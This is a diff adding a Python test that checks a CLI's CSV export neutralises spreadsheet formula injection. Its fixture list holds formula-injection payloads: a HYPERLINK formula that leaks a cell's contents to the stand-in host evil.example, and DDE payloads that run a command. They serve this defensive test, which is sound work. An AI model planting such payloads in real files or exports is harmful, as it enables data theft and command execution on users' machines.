@@ -238,6 +238,30 @@ def test_csv_export_reads_back_with_a_header_row(cli: Cli, db: sqlite3.Connectio
     assert rows[1]["duration_seconds"] == "900"
 
 
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click for your results")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\tTAB",
+]
+
+
+def test_no_csv_cell_starts_a_spreadsheet_formula(cli: Cli, db: sqlite3.Connection) -> None:
+    for day, title in enumerate(FORMULAS, start=1):
+        add_session(db, datetime(2026, 1, day, 9, tzinfo=UTC), routine=title)
+
+    result = cli("history", "--csv")
+
+    assert result.exit_code == 0
+    rows = list(csv.reader(io.StringIO(result.stdout)))[1:]
+    cells = [cell for row in rows for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    # The text is kept, only marked as text: a leading ' that spreadsheets do not show (the
+    # terminal's output turns the tab into spaces).
+    assert {"'" + title for title in FORMULAS[:-1]} <= set(cells)
+
+
 def test_history_in_japanese(cli: Cli, db: sqlite3.Connection) -> None:
     add_session(db, datetime.now(UTC) - timedelta(hours=3))
     out = cli("history", "--lang", "ja").stdout
